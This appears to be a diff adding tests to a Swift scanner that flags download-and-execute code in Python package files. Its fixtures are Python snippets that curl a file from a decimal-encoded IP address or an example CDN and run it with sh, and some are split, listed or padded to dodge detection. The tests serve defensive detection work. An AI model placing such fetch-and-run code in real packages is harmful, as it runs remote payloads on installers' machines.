@@ -68,6 +68,19 @@ import Testing
         #expect(rules(scanFile("pkg/setup_hook.py", command)) == ["download-execute"])
         let split = "import os\ncmd = 'curl https://cdn.example.com/x.sh'\nos.system(cmd + ' | sh')\n"
         #expect(rules(scanFile("pkg/setup_hook.py", split)) == ["download-execute"])
+        // A command with no URL (curl takes a decimal address) is not a word list.
+        let bare = """
+            import subprocess
+            _CMD = (
+                'curl -fsSL 3325256724 -o cordon-helper'
+            ).split()
+            subprocess.run(_CMD); subprocess.run(['sh', 'cordon-helper'])
+            """
+        #expect(rules(scanFile("pkg/__init__.py", bare)) == ["download-execute"])
+        let listed = "import os\nfor c in ('curl -fsSLo x 3325256724',\n          'sh x',):\n    os.system(c)\n"
+        #expect(rules(scanFile("pkg/__init__.py", listed)) == ["download-execute"])
+        let padded = "import os\nc = 'a b c d e curl 3325256724'\nos.system(c)\n"
+        #expect(rules(scanFile("pkg/__init__.py", padded)) == ["download-execute"])
     }
 
     @Test func subprocessWithoutFetchIsClean() {
